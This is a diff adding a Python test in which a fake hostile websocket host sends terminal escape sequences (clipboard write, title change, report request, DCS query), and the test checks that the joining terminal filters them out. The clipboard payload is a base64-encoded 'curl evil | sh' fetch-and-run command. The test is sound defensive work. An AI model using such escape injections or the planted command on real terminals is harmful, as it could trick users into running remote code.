@@ -4,7 +4,11 @@ one: ``test_space.py``, on the host whose links it checks.)"""
 
 from __future__ import annotations
 
+import asyncio
+import threading
 from pathlib import Path
+
+import websockets
 
 from tests.cli.test_serve import _free_port
 from tests.cli.test_space import join
@@ -24,3 +28,49 @@ def test_a_link_that_is_no_seat_and_a_host_that_is_gone_are_said(tmp_path: Path)
     for ended in (seat, gone):
         assert ended.process.returncode != 0
         assert b"Traceback" not in ended.screen
+
+
+class HostileHost:
+    """A seat host that answers the websocket with what a hostile host would send: the
+    clipboard, the title, a report request, a DCS string, cut across frames, then words."""
+
+    FRAMES = (
+        b"\x1b]52;c;Y3VybCBldmlsIHwgc2g=", b"\x07\x1b]0;owned\x07\x1b[21t",
+        b"\x1bP+q544e\x1b", b"\\\x1b[?2048$p\x1b[1mSEAT-", b"READY\x1b[0m\r\n",
+    )  # fmt: skip
+
+    def __init__(self) -> None:
+        self.port = _free_port()
+        self.ready = threading.Event()
+        self.stop: asyncio.Event | None = None
+        self.loop: asyncio.AbstractEventLoop | None = None
+        self.thread = threading.Thread(target=asyncio.run, args=(self._serve(),), daemon=True)
+
+    async def _serve(self) -> None:
+        async def seat(connection: websockets.ServerConnection) -> None:
+            for frame in self.FRAMES:
+                await connection.send(frame)
+            await connection.close()  # the seat ends: so does the join
+
+        self.stop = asyncio.Event()
+        self.loop = asyncio.get_running_loop()
+        async with websockets.serve(seat, "127.0.0.1", self.port):
+            self.ready.set()
+            await self.stop.wait()
+
+
+def test_a_hostile_host_reaches_the_joining_terminal_with_drawing_only(tmp_path: Path) -> None:
+    host = HostileHost()
+    host.thread.start()
+    assert host.ready.wait(30)
+    seat = join(tmp_path, f"http://127.0.0.1:{host.port}/?seat=abc")
+    try:
+        seat.wait_for(b"The seat was closed.")
+    finally:
+        seat.close()
+        assert host.stop is not None
+        assert host.loop is not None
+        host.loop.call_soon_threadsafe(host.stop.set)
+    for dropped in (b"\x1b]52", b"\x1b]0;", b"\x1b[21t", b"\x1bP", b"$p"):
+        assert dropped not in seat.screen, dropped
+    assert b"\x1b[1mSEAT-READY\x1b[0m" in seat.screen
